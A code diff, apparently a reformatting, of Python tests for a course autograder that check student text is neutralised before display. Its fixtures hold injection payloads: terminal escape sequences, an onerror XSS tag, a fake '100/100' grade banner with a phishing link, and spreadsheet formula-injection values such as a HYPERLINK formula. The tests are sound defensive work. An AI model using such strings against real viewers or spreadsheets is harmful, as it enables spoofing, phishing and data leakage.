@@ -1,6 +1,7 @@
 """Student text is data (issue 16 #1-#3, issue 9 #5): whatever a message, a type name or a name
 holds, every writer writes it, and every reader (terminal, Markdown viewer, spreadsheet, HTML)
 shows it as text. Results are built directly here (no grading): fast."""
+
 from __future__ import annotations
 
 import csv
@@ -17,8 +18,10 @@ from grader.results import TestResult as Check
 
 SURROGATE = "bad \ud800 value"
 TERMINAL = "\x1b]0;pwned title\x07\x1b[31mred\x1b[0m \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ \x07bell \rcr \x9b2J c1 \u202eevil\u202c \u2066iso\u2069"
-FENCE_BREAK = ("value\n```\n\n# All checks passed: 100/100\n\n<img src=x onerror=alert(1)>\n"
-               "[Claim your points](http://phish.example/login)\n````\n~~~\n")
+FENCE_BREAK = (
+    "value\n```\n\n# All checks passed: 100/100\n\n<img src=x onerror=alert(1)>\n"
+    "[Claim your points](http://phish.example/login)\n````\n~~~\n"
+)
 HUGE = "E" * 7_000_000
 
 
@@ -33,12 +36,13 @@ def results(*outputs: str, task: str = "losses", name: str = "test_x: a check") 
 # -- grader.text ----------------------------------------------------------------------------------
 def test_clean_makes_valid_unicode_and_never_raises():
     assert text.clean(SURROGATE) == "bad \\ud800 value"
-    assert text.clean("pair \ud83d\ude00 joined") == "pair \U0001F600 joined"
+    assert text.clean("pair \ud83d\ude00 joined") == "pair \U0001f600 joined"
     assert text.clean(b"bytes \xff\xfe") == "bytes \\xff\\xfe"
 
     class Nasty:
         def __str__(self):
             raise RuntimeError("no")
+
     assert "unprintable" in text.clean(Nasty())
     for value in (SURROGATE, TERMINAL, FENCE_BREAK, "\udfff" * 10, None, 3.5):
         out = text.clean(value)
@@ -86,8 +90,16 @@ def test_fence_cannot_be_closed_by_the_text():
 
 
 def test_csv_cells_neutralise_formulas_and_keep_numbers():
-    for name in ('=HYPERLINK("http://x?y="&B3,"feedback")', "@SUM(A1:A9)", "+cmd", "-2+3", "  =1+1",
-                 "\t=1", "\r=1", "＝1+1"):
+    for name in (
+        '=HYPERLINK("http://x?y="&B3,"feedback")',
+        "@SUM(A1:A9)",
+        "+cmd",
+        "-2+3",
+        "  =1+1",
+        "\t=1",
+        "\r=1",
+        "＝1+1",
+    ):
         assert text.csv_cell(name).startswith("'"), name
     assert text.csv_cell("alice") == "alice" and text.csv_cell("o'brien") == "o'brien"
     assert text.csv_cell(-1.5) == -1.5 and text.csv_cell(14) == 14 and text.csv_cell("-1.5") == "-1.5"
@@ -129,8 +141,7 @@ def test_huge_type_names_and_messages_are_bounded_per_item_and_per_student(tmp_p
     res = Results(seed=1, tasks=["losses", "chain_rule", "gradcheck"])
     for task in res.tasks:
         for i in range(40):
-            res.tests.append(Check(task=task, name=HUGE, max_score=1.0,
-                                        output=f"{task}.f() raised {HUGE}: {HUGE}"))
+            res.tests.append(Check(task=task, name=HUGE, max_score=1.0, output=f"{task}.f() raised {HUGE}: {HUGE}"))
     for t in res.tests:
         assert len(t.output) <= text.MESSAGE_LIMIT and len(t.name) <= 600
     res.write_json(tmp_path / "results.json")
@@ -170,6 +181,7 @@ def test_table_shows_no_control_characters_and_no_markup():
     assert "[bold red]markup[/bold red]" in out and "[link=http://evil]" in out  # literally, not applied
     # the only escape sequences are rich's own colours (SGR): ESC [ ... m
     import re
+
     assert not re.search(r"\x1b(?!\[[0-9;]*m)", out), repr(out)
 
 
@@ -177,10 +189,14 @@ def test_table_shows_no_control_characters_and_no_markup():
 def test_table_keeps_points_readable_when_tasks_fail(width):
     res = Results(seed=1, tasks=["losses", "chain_rule", "backprop", "keras_training"])
     long = "mse(y_pred, y_true) with y_pred: shape (5, 3), y_true: shape (5, 3): wrong values; " * 5
-    res.tests += [Check("losses", "a", 4, 4, "passed"), Check("losses", "b", 10, 0, output=long),
-                  Check("chain_rule", "c", 8, 0, output="A" * 5000),
-                  Check("backprop", "d", 18, 9.5, output="x\ny"), Check("backprop", "e", 0.5, 0.5, "passed"),
-                  Check("keras_training", "f", 10.5, 10.5, "passed")]
+    res.tests += [
+        Check("losses", "a", 4, 4, "passed"),
+        Check("losses", "b", 10, 0, output=long),
+        Check("chain_rule", "c", 8, 0, output="A" * 5000),
+        Check("backprop", "d", 18, 9.5, output="x\ny"),
+        Check("backprop", "e", 0.5, 0.5, "passed"),
+        Check("keras_training", "f", 10.5, 10.5, "passed"),
+    ]
     console = Console(width=width, record=True, file=io.StringIO())
     res.print_table(console)
     shown = console.export_text()
@@ -189,10 +205,12 @@ def test_table_keeps_points_readable_when_tasks_fail(width):
     header = next(line for line in lines if line.startswith("Task"))
     for col in ("Tests", "Points", "Status"):
         assert col in header
-    for label, tests, points, status in (("1. losses.py", "1/2", "4/14", "partial"),
-                                         ("2. chain_rule.py", "0/1", "0/8", "failed"),
-                                         ("3. backprop.py", "1/2", "10/18.5", "partial"),
-                                         ("8. keras_training.py", "1/1", "10.5/10.5", "ok")):
+    for label, tests, points, status in (
+        ("1. losses.py", "1/2", "4/14", "partial"),
+        ("2. chain_rule.py", "0/1", "0/8", "failed"),
+        ("3. backprop.py", "1/2", "10/18.5", "partial"),
+        ("8. keras_training.py", "1/1", "10.5/10.5", "ok"),
+    ):
         row = next(line for line in lines if line.startswith(label))
         assert row.split()[-3:] == [tests, points, status], row
     i = next(i for i, line in enumerate(lines) if line.startswith("1. losses.py"))
@@ -202,10 +220,18 @@ def test_table_keeps_points_readable_when_tasks_fail(width):
 
 def test_gradebook_row_and_csv_of_hostile_names():
     from grader.batch import gradebook_csv
+
     res = results("x")
     rows = []
-    for name in ('=HYPERLINK("http://x?y="&B3,"feedback")', "@SUM(1+1)", "+x", "-x", "ok\x1b]0;t\x07name",
-                 "new\nline", "sur\ud800rogate"):
+    for name in (
+        '=HYPERLINK("http://x?y="&B3,"feedback")',
+        "@SUM(1+1)",
+        "+x",
+        "-x",
+        "ok\x1b]0;t\x07name",
+        "new\nline",
+        "sur\ud800rogate",
+    ):
         row = gradebook_row(name, res)
         row["status"] = "=1+1 " + name
         rows.append(row)
@@ -218,12 +244,20 @@ def test_gradebook_row_and_csv_of_hostile_names():
         for key in ("student", "status"):
             assert not row[key].lstrip().startswith(("=", "+", "-", "@")), row
         assert float(row["total"]) == 2.0 and row["losses"] == "2.0"
-    assert {r["student"] for r in parsed} >= {"'=HYPERLINK(\"http://x?y=\"&B3,\"feedback\")", "'@SUM(1+1)",
-                                              "'+x", "'-x", "okname", "new line", "sur\\ud800rogate"}
+    assert {r["student"] for r in parsed} >= {
+        '\'=HYPERLINK("http://x?y="&B3,"feedback")',
+        "'@SUM(1+1)",
+        "'+x",
+        "'-x",
+        "okname",
+        "new line",
+        "sur\\ud800rogate",
+    }
 
 
 def test_gradescope_output_is_clean():
     from grader.course.gradescope import error_json
+
     res = results(SURROGATE + TERMINAL + FENCE_BREAK)
     res.notes = ["ignored symbolic link \x1b]0;x\x07evil\ud800.py"]
     data = res.to_gradescope_json()
@@ -236,6 +270,7 @@ def test_gradescope_output_is_clean():
 
 def test_nbgrader_cell_report_is_clean():
     from grader.course.nbgrader_preprocessors import MAX_OUTPUT, _report
+
     res = results(SURROGATE + TERMINAL + "x" * 5000)
     out = _report("Public checks of losses", res.tests, 0.0, 3.0, ["note \x1b[31m"])
     out.encode("utf-8")
